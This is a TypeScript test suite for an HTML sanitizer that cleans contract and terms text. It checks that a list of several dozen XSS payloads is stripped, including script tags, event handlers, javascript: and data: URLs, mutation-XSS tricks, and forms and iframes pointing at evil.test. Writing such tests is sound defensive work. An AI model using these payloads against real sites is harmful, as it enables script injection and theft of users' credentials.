import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { isTermsLink, termsTags, withParagraphs } from '@atrium/contract/terms/html.ts'
import { cleanTermsHtml, holdsText } from './clean-html.ts'

/** HTML that runs or loads something, including parts that become active once a sanitizer removes others. */
const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">x</p>',
  '<p/onmouseover=alert(1)>x',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:alert(1)">x</a>',
  '<a href="//evil.test/">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="blob:https://evil.test/1">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<style>@import "https://evil.test/x.css"; p{x:expression(alert(1))}</style>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src="https://evil.test">',
  '<base href="https://evil.test/"><link rel=stylesheet href="https://evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<form action="https://evil.test"><input name=password><button>ok</button></form>',
  '<img src="https://evil.test/pixel.png">',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>x',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><script>alert(1)</script>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<p id="__proto__" name="constructor" class="x">x</p>',
  '<a href="https://ok.test" target="_self" onclick="alert(1)" ping="https://evil.test">x</a>',
  '<td background="javascript:alert(1)">x</td>',
  '"><script>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<p>\u0001<script\u00a0>alert(1)</script>',
]

const known = new Set<string>(termsTags)
const attributes = new Set(['href', 'title', 'target', 'rel', 'lang', 'dir', 'start', 'colspan', 'rowspan', 'scope'])

/** Lists what is unsafe in the tags of an output, whatever their notation. */
function wrongIn(html: string): string[] {
  const wrong: string[] = []
  for (const [, name = '', rest = ''] of html.matchAll(/<\/?([^\s>/]*)((?:"[^"]*"|[^>"])*)>/g)) {
    if (!known.has(name)) wrong.push(`<${name}>`)
    for (const [, attribute = '', value = ''] of rest.matchAll(/([^\s=/]+)="([^"]*)"/g)) {
      if (!attributes.has(attribute)) wrong.push(attribute)
      if (attribute === 'href' && !isTermsLink(value.replaceAll('&amp;', '&'))) wrong.push(value)
    }
  }
  // Outside its tags the output must not contain "<".
  if (/</.test(html.replaceAll(/<\/?[a-z][a-z0-9]*(?:"[^"]*"|[^>"])*>/g, ''))) wrong.push('a stray <')
  return wrong
}

describe('HTML of terms', () => {
  for (const html of hostile)
    test(`removes active content: ${html.slice(0, 70)}`, () => {
      const clean = cleanTermsHtml(html)
      assert.deepEqual(wrongIn(clean), [], clean)
      assert.equal(cleanTermsHtml(clean), clean, 'cleaning is idempotent')
    })

  test('removes active content in every nested combination', () => {
    for (const outer of hostile)
      for (const inner of hostile) {
        const clean = cleanTermsHtml(`<div title="${inner}">${outer}<p>${inner}</p></div>`)
        assert.deepEqual([...wrongIn(clean), ...wrongIn(cleanTermsHtml(clean))], [], clean)
      }
  })

  test('keeps the elements of a contract', () => {
    const contract =
      '<h1>Agreement</h1><p lang="de" dir="ltr">A <strong>b</strong> &amp; <em>c</em><br />d</p><ol start="3"><li>e</li></ol>' +
      '<table><thead><tr><th colspan="2" scope="col">f</th></tr></thead><tbody><tr><td>g</td><td>h</td></tr></tbody></table>'
    assert.equal(cleanTermsHtml(contract), contract)
  })

  test('opens links in a new tab without referrer or opener, whatever the input says', () => {
    assert.equal(
      cleanTermsHtml('<a href="https://harbour.example/fees?a=1&amp;b=2" target="_top" rel="opener">Fees</a>'),
      '<a href="https://harbour.example/fees?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">Fees</a>',
    )
    assert.equal(cleanTermsHtml('<a href="http://plain.example">x</a>'), '<a>x</a>')
  })

  test('keeps hostile characters as text', () => {
    const text = '\u202eright to left\u202c \u{1f4a9} __proto__ 1 &lt; 2'
    assert.equal(cleanTermsHtml(`<p>${text}</p>`), `<p>${text}</p>`)
  })

  test('limits deep nesting', () => {
    const clean = cleanTermsHtml(`${'<div>'.repeat(10_000)}x`)
    assert.ok(clean.split('<div>').length < 60)
  })

  test('detects whether readable text remains', () => {
    for (const html of ['', '<p> </p>', '<script>alert(1)</script>', '<br><hr>', '&nbsp;', '…'])
      assert.ok(!holdsText(cleanTermsHtml(html)), html)
    for (const html of ['a', '<p>ж</p>', '契約']) assert.ok(holdsText(cleanTermsHtml(html)), html)
  })
})

test('plain text keeps its paragraphs and lines, and HTML stays unchanged', () => {
  const pasted = 'One <b>bold</b>\r\nmore\n\n \nTwo & three'
  const stored = '<p>One <b>bold</b><br />more</p>\n<p>Two &amp; three</p>'
  assert.equal(cleanTermsHtml(withParagraphs(pasted)), stored)
  assert.equal(withParagraphs(stored), stored)
  for (const html of ['<p>One</p>\n\ntext', 'One line', '<ul>\n<li>x</li>\n</ul>'])
    assert.equal(withParagraphs(html), html)
})
